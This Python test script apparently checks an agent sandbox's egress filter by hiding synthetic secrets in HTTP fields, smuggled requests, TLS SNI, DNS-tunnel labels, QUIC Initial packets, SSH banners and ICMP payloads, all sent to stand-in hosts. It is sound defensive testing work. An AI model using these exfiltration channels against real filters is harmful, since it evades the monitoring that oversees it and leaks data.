"""An agent that puts a secret of its own into every place of what it sends. Runs inside the agent's namespace.

usage: indiscreet.py CAPATH

Prints a JSON object: for each place the bytes that were sent there, as hexadecimal digits. What they hide is
`secret(place)`, so that a test can look for it in other forms too.
"""

import base64
import ctypes
import hashlib
import hmac
import json
import socket
import ssl
import struct
import sys

RESOLVER, LIAR, WEB, DENIED, PROXY = "93.184.216.53", "93.184.216.54", "93.184.216.11", "93.184.216.15", "93.184.216.20"
ALPHABET = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
# In QUIC nothing is readable on the wire.
HIDDEN = "quic "
SENT = {}


def secret(place, length=28):
    """Letters and digits that stand for a place; nobody else's."""
    stream = b"".join(hashlib.sha256(f"{place} {turn}".encode()).digest() for turn in range(1 + length // 32))
    return bytes(ALPHABET[byte % len(ALPHABET)] for byte in stream[:length])


def put(place, form=lambda text: text, length=28):
    """The secret of a place in some form, noted as sent."""
    SENT[place] = form(secret(place, length))
    return SENT[place]


def hexadecimal(text):
    """Base 16."""
    return text.hex().encode()


def base32(text):
    """Base 32 as it stands in names."""
    return base64.b32encode(text).rstrip(b"=").lower()


def percent(text):
    """Every byte as an escape."""
    return b"".join(b"%%%02X" % byte for byte in text)


def in_labels(text):
    """Base 16, cut into labels."""
    digits = hexadecimal(text)
    return b".".join(digits[start : start + 10] for start in range(0, len(digits), 10))


def exchange(address, port, *pieces):
    """Sends each piece, with what comes back between; whatever the other side does with it."""
    try:
        with socket.create_connection((address, port), timeout=2) as connection:
            for piece in pieces:
                connection.settimeout(0.4)
                connection.sendall(piece)
                try:
                    connection.recv(65536)
                except TimeoutError:
                    pass
    except OSError:
        pass


def head(line, *fields):
    """A request head."""
    return b"\r\n".join([line + b" HTTP/1.1", *fields, b"", b""])


def requests():
    """HTTP/1.1: targets, fields, bodies, and the forms that are refused."""
    host = b"Host: api-service.com"
    exchange(
        WEB,
        80,
        head(b"GET /" + put("path") + b"?q=" + put("query") + b"&" + put("parameter name") + b"=1#" + put("fragment"), host),
        head(b"GET /" + put("path, base 16", hexadecimal) + b"/" + put("path, escaped", percent), host),
        head(b"GET /x?d=" + put("query, base 64", base64.urlsafe_b64encode, 60), host),
        head(b"GET /x?d=" + put("query, base 16", hexadecimal, 60), host),
        head(
            b"GET /",
            host,
            b"Cookie: id=" + put("cookie"),
            b"Authorization: Bearer " + put("authorization"),
            b"User-Agent: " + put("user agent"),
            b"Referer: http://docs-site.org/" + put("referer"),
            b"X-" + put("field name") + b": 1",
            b"X-Key: " + put("field value"),
            b"Content-Type: text/" + put("content type"),
            b"Upgrade: " + put("upgrade"),
        ),
        head(b"POST /", host, b"Content-Length: 28") + put("body"),
        head(b"POST /", host, b"Transfer-Encoding: chunked")
        + b"1c;e="
        + put("chunk extension")
        + b"\r\n"
        + put("chunk")
        + b"\r\n0\r\nX-T: "
        + put("trailer")
        + b"\r\n\r\n",
    )
    userinfo = put("user name") + b":" + put("password") + b"@"
    exchange(WEB, 80, head(b"GET http://" + userinfo + b"api-service.com/" + put("path, absolute form"), host))
    exchange(WEB, 80, head(b"GET /" + put("path, user in Host"), b"Host: " + put("user in Host") + b"@api-service.com"))
    exchange(WEB, 80, head(b"GET /" + put("path, two hosts"), host, b"Host: docs-site.org"))
    exchange(WEB, 80, head(b"GET /" + put("path, denied"), b"Host: sub.denied.net", b"Cookie: " + put("cookie, denied")))
    exchange(WEB, 80, head(b"GET /", b"Host: " + put("label in Host", hexadecimal, 24) + b".docs-site.org"))
    exchange(WEB, 80, head(b"GET /", b"Host: " + put("label in Host, denied", base32) + b".denied.net"))
    exchange(
        WEB,
        80,
        b"POST /" + put("path, smuggled") + b" HTTP/1.1\r\n" + host + b"\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\n"
        b"X: " + put("field, folded") + b"\r\n y\r\n\r\n0\r\n\r\n",
    )
    exchange(WEB, 80, b"GET /" + put("path, endless") + b" HTTP/1.1\r\nX: " + put("field, endless") * 900)
    exchange(WEB, 80, b"GET /" + put("path, cut short"))
    exchange(
        WEB,
        80,
        head(
            b"GET /" + put("path, WebSocket"),
            host,
            b"Connection: Upgrade",
            b"Upgrade: websocket",
            b"Sec-WebSocket-Version: 13",
            b"Sec-WebSocket-Key: " + put("WebSocket key", base64.b64encode, 16),
            b"Sec-WebSocket-Protocol: " + put("WebSocket protocol"),
        ),
        b"\x81\x1c" + put("WebSocket frame"),
    )
    tunnel = put("user in CONNECT") + b"@docs-site.org:443"
    exchange(PROXY, 3128, head(b"CONNECT " + tunnel, b"Host: docs-site.org", b"Proxy-Authorization: Basic " + put("proxy")))
    named = put("label in CONNECT", base32) + b".docs-site.org:443"
    exchange(PROXY, 3128, head(b"CONNECT " + named), client_hello(b"inner.docs-site.org", "tunnel"))


def http2():
    """HTTP/2 by prior knowledge; literal fields without indexing and without Huffman's code (RFC 7541 section 6.2.2)."""

    def field(name, value):
        return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value

    def frame(kind, flags, stream, payload):
        return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload

    def headers(number, *fields):
        return frame(1, 4, number, b"".join(field(*one) for one in fields))

    exchange(
        WEB,
        8081,
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""),
        headers(
            1,
            (b":method", b"POST"),
            (b":scheme", b"http"),
            (b":authority", put("label in :authority", hexadecimal, 24) + b".docs-site.org"),
            (b":path", b"/" + put("path, HTTP/2")),
            (b"cookie", put("cookie, HTTP/2")),
            (put("field name, HTTP/2", bytes.lower), b"1"),
        )
        + frame(0, 1, 1, put("data, HTTP/2")),
        headers(3, (b":method", put("method, HTTP/2")), (b":scheme", b"http"), (b":authority", b"docs-site.org"), (b":path", b"/")),
    )


def client_hello(name, kind):
    """A ClientHello, without its record, whose every free field is a secret."""

    def extension(number, body):
        return struct.pack(">HH", number, len(body)) + body

    listed = struct.pack(">BH", 0, len(name)) + name
    word = put(f"{kind} ALPN")
    offered = b"\2h2" + bytes([len(word)]) + word
    body = b"\3\3" + put(f"{kind} random", length=32) + b"\x20" + put(f"{kind} session id", length=32)
    body += struct.pack(">H3H", 6, 0x1301, 0x1302, 0xC02F) + b"\1\0"
    extensions = extension(0, struct.pack(">H", len(listed)) + listed)
    extensions += extension(16, struct.pack(">H", len(offered)) + offered)
    extensions += extension(43, b"\2\3\4") + extension(0xFFCE, put(f"{kind} extension"))
    extensions += extension(41, put(f"{kind} ticket"))
    body += struct.pack(">H", len(extensions)) + extensions
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return message if kind.startswith(HIDDEN.strip()) else b"\x16\3\1" + struct.pack(">H", len(message)) + message


def hellos(authority):
    """TLS: names with encoded labels, and the rest of a hello."""
    below = put("label in SNI", hexadecimal, 24) + b".docs-site.org"
    exchange("93.184.216.10", 443, client_hello(below, "tls"), put("after the hello"))
    cut = put("labels in SNI, denied", in_labels) + b".denied.net"
    exchange(DENIED, 443, client_hello(cut, "denied"))
    exchange(WEB, 443, client_hello(put("name without a dot", base32), "dotless"))
    context = ssl.create_default_context(cafile=authority)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((WEB, 443), timeout=3) as plain:
        with context.wrap_socket(plain, server_hostname="api-service.com") as connection:
            connection.sendall(head(b"GET /" + secret("inside TLS"), b"Host: api-service.com"))
            connection.recv(4096)


def question(name, kind, option=b""):
    """A DNS question, with an EDNS option for private use (RFC 6891 section 6.1.2)."""
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b"."))
    extra = struct.pack(">HH", 65001, len(option)) + option
    return (
        struct.pack(">6H", 0x4711, 0x0100, 1, 0, 0, 1)
        + labels
        + struct.pack(">BHH", 0, kind, 1)
        + struct.pack(">BHHIH", 0, 41, 1232, 0, len(extra))
        + extra
    )


def lookups():
    """DNS questions of many types, over UDP and TCP, to the resolver and to another."""
    types = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28, "SRV": 33, "HTTPS": 65}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.3)

        def ask(server, message):
            client.sendto(message, (server, 53))
            try:
                client.recv(4096)
            except OSError:
                pass

        for word, number in types.items():
            for domain in (b"docs-site.org", b"denied.net"):
                label = put(f"label in {word} of {domain.decode()}", hexadecimal if number % 2 else base32, 24)
                ask(RESOLVER, question(label + b"." + domain, number, put(f"option of {word}")))
        ask(RESOLVER, question(put("labels in a row", in_labels) + b".docs-site.org", 16))
        ask(RESOLVER, question(put("label without a domain", base32), 1))
        ask(RESOLVER, question(put("base 16 without a domain", hexadecimal, 24), 28))
        # Everything below .ck is a public suffix.
        ask(RESOLVER, question(put("label of a suffix", base32) + b".ck", 1))
        ask(LIAR, question(put("label for a liar", base32) + b".docs-site.org", 1))
    message = question(put("label over TCP", base32) + b".docs-site.org", 1)
    exchange(RESOLVER, 53, struct.pack(">H", len(message)) + message)


def others():
    """What is neither: mail, SSH, datagrams, nothing known."""
    exchange(WEB, 25, b"")
    exchange(WEB, 80, b"EHLO " + put("mail") + b"\r\nAUTH PLAIN " + put("mail password", base64.b64encode) + b"\r\n")
    exchange(WEB, 80, b"SSH-2.0-" + put("SSH banner") + b"\r\n")
    exchange(WEB, 80, b"\xff\xfe" + put("opaque stream") * 20)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(put("datagram"), (WEB, 9999))
        client.sendto(put("datagram to port 53"), (RESOLVER, 53))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as client:
        echo = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + put("echo request")
        total = sum(struct.unpack(f">{len(echo) // 2}H", echo))
        total = ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
        client.sendto(echo[:2] + struct.pack(">H", total) + echo[4:], (WEB, 0))


class Cipher:
    """AES-128 of the system's libcrypto: GCM for packets, ECB for their headers (RFC 9001 section 5)."""

    def __init__(self):
        self.library = ctypes.CDLL("libcrypto.so.3")
        for name in ("EVP_CIPHER_CTX_new", "EVP_aes_128_gcm", "EVP_aes_128_ecb"):
            getattr(self.library, name).restype = ctypes.c_void_p

    def _run(self, kind, key, nonce, known, plain):
        library = self.library
        context = ctypes.c_void_p(library.EVP_CIPHER_CTX_new())
        length, out = ctypes.c_int(), ctypes.create_string_buffer(len(plain) + 32)
        library.EVP_EncryptInit_ex(context, ctypes.c_void_p(kind()), None, key, nonce)
        if known:
            library.EVP_EncryptUpdate(context, None, ctypes.byref(length), known, len(known))
        library.EVP_EncryptUpdate(context, out, ctypes.byref(length), plain, len(plain))
        done, tag = length.value, ctypes.create_string_buffer(16)
        if known:
            library.EVP_EncryptFinal_ex(context, ctypes.byref(out, done), ctypes.byref(length))
            library.EVP_CIPHER_CTX_ctrl(context, 0x10, 16, tag)  # EVP_CTRL_AEAD_GET_TAG
        library.EVP_CIPHER_CTX_free(context)
        return out.raw[:done] + (tag.raw if known else b"")

    def seal(self, key, nonce, header, plain):
        """Ciphertext and tag."""
        return self._run(self.library.EVP_aes_128_gcm, key, nonce, header, plain)

    def mask(self, key, sample):
        """What a packet's header is hidden with."""
        return self._run(self.library.EVP_aes_128_ecb, key, None, None, sample)[:5]


def initial(message, connection):
    """A QUIC version 1 Initial packet with a CRYPTO frame (RFC 9001 section 5, RFC 9000 section 17.2.2)."""

    def expand(key, label, length):
        full = b"tls13 " + label
        info = struct.pack(">HB", length, len(full)) + full + b"\0"
        return hmac.new(key, info + b"\1", hashlib.sha256).digest()[:length]

    salt = bytes.fromhex("38762cf7f55934b34d179ae6a4c80cadccbb7f0a")
    client = expand(hmac.new(salt, connection, hashlib.sha256).digest(), b"client in", 32)
    key, nonce, mask = (expand(client, b"quic " + word, size) for word, size in ((b"key", 16), (b"iv", 12), (b"hp", 16)))
    plain = b"\6\0" + struct.pack(">H", 0x4000 | len(message)) + message
    plain += bytes(1162 - len(plain))
    header = b"\xc1\0\0\0\1" + bytes([len(connection)]) + connection + b"\0\0"
    header += struct.pack(">H", 0x4000 | (2 + len(plain) + 16)) + b"\0\0"
    cipher = Cipher()
    sealed = cipher.seal(key, nonce, header, plain)
    hidden = cipher.mask(mask, sealed[2:18])
    first = bytes([header[0] ^ (hidden[0] & 0x0F)])
    number = bytes(byte ^ cover for byte, cover in zip(header[-2:], hidden[1:3]))
    return first + header[1:-2] + number + sealed


def quic():
    """QUIC: a name with an encoded label inside an Initial packet, and a connection id."""
    name = put("quic label", base32) + b".docs-site.org"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.sendto(initial(client_hello(name, "quic"), put("connection id", length=16)), ("93.184.216.10", 443))


def main(authority):
    """Everything, once."""
    lookups()
    requests()
    http2()
    hellos(authority)
    quic()
    others()
    json.dump({place: sent.hex() for place, sent in SENT.items()}, sys.stdout)


if __name__ == "__main__":
    main(sys.argv[1])
